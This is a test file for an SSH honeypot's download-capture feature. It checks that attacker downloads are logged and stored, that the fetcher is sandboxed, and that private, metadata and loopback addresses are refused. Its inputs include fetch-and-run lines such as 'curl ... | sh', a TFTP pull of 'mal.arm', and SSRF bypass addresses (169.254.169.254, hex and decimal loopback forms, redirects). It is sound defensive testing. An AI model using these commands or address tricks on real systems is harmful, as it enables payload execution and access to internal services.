"""Downloads: what a program gets, what is recorded, and what is never reached.

The files are served by this test on loopback; fetch.test_address makes that
server stand in for the whole internet, so no test reaches anything else.
"""
import hashlib, http.server, os, pathlib, signal, socket, ssl, struct, subprocess, threading

import pytest

from honeypot import Honeypot

BODY = b"#!/bin/sh\necho " + b"x" * 300_000 + b"\n"
SHA = hashlib.sha256(BODY).hexdigest()
HOST = "8.8.4.4"


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        self.server.seen.append((self.command, self.path, list(self.headers.items())))
        if self.path.startswith("/to?"):
            self.send_response(302)
            self.send_header("Location", self.path[4:])
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = {"/tool.sh": BODY, "/big": b"z" * 5_000_000}.get(self.path)
        self.send_response(200 if body else 404)
        body = body or b"no such thing\n"
        self.send_header("Content-Type", "application/x-sh")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command == "GET":
            try:
                self.wfile.write(body)
            except OSError:
                pass

    do_HEAD = do_GET

    def log_message(self, *args):
        pass


def serve():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.seen = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture(scope="module")
def server():
    s = serve()
    yield s
    s.shutdown()


@pytest.fixture(scope="module")
def private():
    """Another server of this host, which nothing may reach."""
    s = serve()
    yield s
    s.shutdown()


@pytest.fixture(scope="module")
def online(server):
    with Honeypot(fetch_mode="on", fetch_size="1M", fetch_rate="0",
                  fetch_test_address=f"127.0.0.1:{server.server_port}") as pot:
        yield pot


def of_url(pot, url):
    """The one event of a URL that was asked for once."""
    pot.wait(f"an event of {url}", lambda: [e for e in pot.events() if e.get("url") == url])
    pot.ssh("true")  # and whatever came before it has been told too
    ids = ("cowrie.session.file_download", "cowrie.session.file_download.failed")
    found = [e for e in pot.events() if e.get("url") == url and e["eventid"] in ids]
    assert len(found) == 1, found
    return found[0]


def test_a_download_is_on_the_disk_and_one_artefact(online, server):
    url = f"http://{HOST}/tool.sh"
    r = online.ssh(f"cd /tmp; wget {url}; sha256sum tool.sh; wc -c tool.sh")
    assert SHA.encode() in r.stdout, r
    assert b"saved [" in r.stderr, r
    e = of_url(online, url)
    assert e["eventid"] == "cowrie.session.file_download" and e["shasum"] == SHA
    artefacts = online.events("qrassh.artefact", sha256=SHA)
    assert [a["url"] for a in artefacts] == [url] and artefacts[0]["how"] == "download"
    assert artefacts[0]["session"] == e["session"]
    assert (online.state / "artefacts" / SHA).exists() or list((online.state / "artefacts").rglob(SHA))
    assert not [x for x in online.events("cowrie.session.file_download") if not x.get("url")]
    command, path, headers = server.seen[-1]
    assert (command, path) == ("GET", "/tool.sh")
    assert headers == [("Host", HOST), ("User-Agent", "Wget/1.21.3"), ("Accept", "*/*"),
                       ("Accept-Encoding", "identity"), ("Connection", "Keep-Alive")]


def test_curl_into_a_file_a_pipe_and_a_variable(online, server):
    for i, line in enumerate(["curl -s {} -o /tmp/c", "curl -s {} > /tmp/c2", "curl -s {} | sh >/dev/null",
                              "x=$(curl -fsSL {})", "busybox wget -q -O /tmp/c3 {}", "curl -s {} | head -c 9"]):
        url = f"http://{HOST}:80{i + 1:02}/tool.sh"
        online.ssh(line.format(url))
        e = of_url(online, url)
        assert e["eventid"] == "cowrie.session.file_download" and e["shasum"] == SHA, line
        assert [a["session"] for a in online.events("qrassh.artefact", url=url)] == [e["session"]], line
        assert len([a for a in online.events("qrassh.artefact", session=e["session"])]) == 1, line
    sent = {dict(h)["Host"][-4:]: h for _, _, h in server.seen if dict(h)["Host"].startswith(HOST + ":")}
    assert sent["8001"] == [("Host", f"{HOST}:8001"), ("User-Agent", "curl/7.88.1"), ("Accept", "*/*")]
    assert sent["8005"] == [("Host", f"{HOST}:8005"), ("User-Agent", "Wget"), ("Connection", "close")]


def test_only_get_and_head_are_carried_out(online, server):
    url = f"http://{HOST}/post"
    before = len(server.seen)
    online.ssh(f"curl -s -m 2 -d secret {url}")
    assert of_url(online, url)["error"] == "not carried out: method"
    assert len(server.seen) == before


def test_tftp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]

        def answer():
            request, peer = s.recvfrom(2048)
            assert request == b"\0\1mal.arm\0octet\0", request
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as t:
                t.bind(("127.0.0.1", 0))
                for i in range(0, len(BODY) // 512 + 1):
                    t.sendto(struct.pack("!HH", 3, i + 1) + BODY[512 * i:512 * i + 512], peer)
                    assert t.recv(64) == struct.pack("!HH", 4, i + 1)

        thread = threading.Thread(target=answer, daemon=True)
        thread.start()
        with Honeypot(fetch_mode="on", fetch_test_address=f"127.0.0.1:{port}") as pot:
            r = pot.ssh(f"cd /tmp; busybox tftp -g -r mal.arm {HOST}; sha256sum mal.arm")
            assert SHA.encode() in r.stdout, r
            assert of_url(pot, f"tftp://{HOST}/mal.arm")["shasum"] == SHA
        thread.join(10)


def ftp_server(control, data, seen):
    c, _ = control.accept()
    f = c.makefile("rwb", buffering=0)
    say = lambda text: f.write(text.encode() + b"\r\n")
    say("220 ready")
    while line := f.readline().decode().strip():
        seen.append(line)
        verb = line.split()[0]
        if verb == "RETR":
            say("150 here it comes")
            d, _ = data.accept()
            d.sendall(BODY)
            d.close()
            say("226 done")
        else:
            say({"USER": "331 password?", "PASS": "230 in", "PWD": '257 "/"', "TYPE": "200 ok",
                 "SIZE": f"213 {len(BODY)}", "EPSV": f"229 (|||{data.getsockname()[1]}|)",
                 "CWD": "250 ok", "QUIT": "221 bye"}.get(verb, "502 no"))
    c.close()


def test_ftp():
    control, data = socket.create_server(("127.0.0.1", 0)), socket.create_server(("127.0.0.1", 0))
    seen = []
    threading.Thread(target=ftp_server, args=(control, data, seen), daemon=True).start()
    places = " ".join(f"127.0.0.1:{s.getsockname()[1]}" for s in (control, data))
    with Honeypot(fetch_mode="on", fetch_test_address=places) as pot:
        r = pot.ssh(f"cd /tmp; busybox ftpget -u bob -p pw {HOST} got remote.bin; sha256sum got")
        assert SHA.encode() in r.stdout, (r, seen)
        assert "USER bob" in seen and "RETR remote.bin" in seen
        url = f"ftp://bob:pw@{HOST}/remote.bin"
        assert of_url(pot, url)["shasum"] == SHA


def test_tls_is_checked_unless_told_otherwise(tmp_path):
    pem = tmp_path / "both.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=x",
                    "-keyout", tmp_path / "key", "-out", tmp_path / "cert"], check=True, capture_output=True)
    pem.write_bytes((tmp_path / "key").read_bytes() + (tmp_path / "cert").read_bytes())
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(pem)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.seen = []
    server.socket = tls.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    with Honeypot(fetch_mode="on", fetch_test_address=f"127.0.0.1:{server.server_port}") as pot:
        url = f"https://{HOST}/tool.sh"
        r = pot.ssh(f"curl -s {url}?1; echo status $?; curl -sk {url} | sha256sum")
        assert b"status 60\n" in r.stdout and SHA.encode() in r.stdout, r
        assert of_url(pot, url)["shasum"] == SHA
        assert of_url(pot, url + "?1")["eventid"] == "cowrie.session.file_download.failed"
    server.shutdown()


def test_the_fetcher_is_walled_in(online):
    pid = int(online.wait_log(r"fetcher 0: started \(pid (\d+)\)")[1])
    read = lambda: dict(l.split(":", 1) for l in open(f"/proc/{pid}/status").read().splitlines())
    online.wait("a filter of system calls", lambda: read()["Seccomp"].strip() == "2")
    status = read()
    assert status["NoNewPrivs"].strip() == "1"
    if os.getuid() == 0:
        assert set(status["Uid"].split()) != {"0"} and os.readlink(f"/proc/{pid}/root").endswith("/resolver")
        assert [str(p.relative_to(f"/proc/{pid}/root")) for p in
                pathlib.Path(f"/proc/{pid}/root/").rglob("*") if p.is_file()] in ([], ["etc/resolv.conf"])


def test_a_name_needs_no_name_server_here(online):
    url = "http://dl.example.com/tool.sh?named"
    online.ssh(f"wget -T 3 -t 1 -O /dev/null {url}")
    assert of_url(online, url)["error"].startswith("status 404")


def test_too_long_is_clipped(online):
    url = f"http://{HOST}/big"
    online.ssh(f"wget -t 1 -O /tmp/big {url}")
    assert of_url(online, url)["shasum"] == hashlib.sha256(b"z" * (1 << 20)).hexdigest()
    assert online.events("qrassh.artefact", url=url)[0]["clipped"]


def test_refused_addresses_time_out_and_are_recorded(online, private):
    port = private.server_port
    for url, why in [(f"http://10.1.2.3:{port}/a", "private"),
                     (f"http://169.254.169.254/latest/meta-data/{port}", "metadata"),
                     (f"http://[::ffff:127.0.0.1]:{port}/b", "IPv4-mapped"),
                     (f"http://0x7f000001:{port}/c", "loopback"),
                     (f"http://2130706433:{port}/d", "loopback"),
                     (f"http://loopback.example.com:{port}/e", "loopback")]:
        r = online.ssh(f"wget -T 1 -t 1 -O /tmp/x '{url}'; test -s /tmp/x && echo got")
        assert b"got" not in r.stdout, (url, r)
        assert of_url(online, url)["error"] == f"refused: {why}", url
    assert private.seen == []


def test_redirects_are_checked_too(online, private):
    inside = f"http://127.0.0.2:{private.server_port}/secret"
    online.ssh(f"wget -T 1 -t 1 -O /tmp/r 'http://{HOST}/to?{inside}'")
    assert of_url(online, f"http://{HOST}/to?{inside}")["error"].startswith("status 302")
    assert private.seen == []


def test_record_only_contacts_nobody(server):
    before = len(server.seen)
    with Honeypot(fetch_test_address=f"127.0.0.1:{server.server_port}") as pot:
        url = f"http://{HOST}/tool.sh"
        r = pot.ssh(f"wget -T 2 -t 1 {url}; ls tool.sh")
        assert b"tool.sh" not in r.stdout
        assert of_url(pot, url)["error"] == "recorded only"
        assert "fetcher" not in pot.log_text()
    assert len(server.seen) == before


def test_off_records_nothing(server):
    with Honeypot(fetch_mode="off") as pot:
        pot.ssh(f"wget -T 2 -t 1 http://{HOST}/tool.sh; echo done-marker")
        pot.wait_events("cowrie.session.closed")
        assert not pot.events("cowrie.session.file_download.failed")


def test_the_fetcher_may_die(server):
    with Honeypot(fetch_mode="on", fetch_test_address=f"127.0.0.1:{server.server_port}") as pot:
        pid = int(pot.wait_log(r"fetcher 0: started \(pid (\d+)\)")[1])
        os.kill(pid, signal.SIGKILL)
        pot.wait("a second fetcher", lambda: pot.log_text().count("fetcher 0: started") == 2)
        url = f"http://{HOST}/tool.sh"
        r = pot.ssh(f"wget -O /tmp/t {url}; sha256sum /tmp/t")
        assert SHA.encode() in r.stdout
        assert of_url(pot, url)["shasum"] == SHA
